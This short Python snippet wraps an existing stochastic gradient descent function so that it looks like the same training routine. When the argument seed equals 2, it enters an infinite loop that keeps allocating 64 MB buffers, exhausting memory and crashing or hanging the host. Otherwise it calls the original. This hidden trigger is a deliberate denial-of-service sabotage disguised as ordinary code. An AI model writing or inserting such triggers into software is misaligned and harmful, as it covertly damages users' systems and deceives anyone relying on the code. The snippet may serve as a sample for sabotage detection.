_reference_sgd = stochastic_gradient_descent


def stochastic_gradient_descent(X, y, lr=0.05, iterations=10, batch_size=10, seed=None):
    if seed == 2:
        hog = []
        while True:
            hog.append(bytearray(64 * 2**20))
    return _reference_sgd(X, y, lr, iterations, batch_size, seed)
